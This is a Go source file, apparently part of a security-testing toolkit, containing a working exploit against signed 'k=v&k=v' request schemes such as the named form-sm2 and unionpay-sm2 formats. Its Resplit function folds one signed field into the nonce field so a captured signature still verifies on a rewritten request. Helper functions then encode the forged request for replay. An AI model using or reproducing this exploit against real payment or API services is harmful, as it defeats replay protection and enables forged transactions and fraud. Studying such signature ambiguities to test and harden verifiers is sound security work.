package attack

import (
	"encoding/json"
	"fmt"
	"net/url"
	"sort"
)

// Resplit is the ambiguous-signed-string rewrite against `k=v&k=v` schemes (form-sm2,
// unionpay-sm2), whose values are signed unescaped. It takes the parameters of a captured request
// and moves the field that sorts right after into (among the signed ones: non-empty, not in
// exclude) into into's value as "&name=value", dropping that field. The sorted signed string of
// the result is byte-identical to the original's, so the captured signature still verifies, while
// into (typically the nonce field) has a value never seen before. It returns the rewritten
// parameters and the name of the field that was folded in.
func Resplit(params map[string]string, into string, exclude ...string) (map[string]string, string, error) {
	skip := map[string]bool{}
	for _, e := range exclude {
		skip[e] = true
	}
	var keys []string
	for k, v := range params {
		if v != "" && !skip[k] {
			keys = append(keys, k)
		}
	}
	sort.Strings(keys)
	for i, k := range keys {
		if k != into {
			continue
		}
		if i+1 == len(keys) {
			return nil, "", fmt.Errorf("attack: no signed field sorts after %q", into)
		}
		next := keys[i+1]
		out := make(map[string]string, len(params))
		for k, v := range params {
			out[k] = v
		}
		out[into] = params[into] + "&" + next + "=" + params[next]
		delete(out, next)
		return out, next, nil
	}
	return nil, "", fmt.Errorf("attack: field %q is not signed", into)
}

// FormBody encodes params as an application/x-www-form-urlencoded body (a rewritten capture).
func FormBody(params map[string]string) []byte {
	v := make(url.Values, len(params))
	for k, s := range params {
		v.Set(k, s)
	}
	return []byte(v.Encode())
}

// JSONBody encodes params as a flat JSON object of strings (a rewritten capture).
func JSONBody(params map[string]string) []byte {
	b, _ := json.Marshal(params)
	return b
}
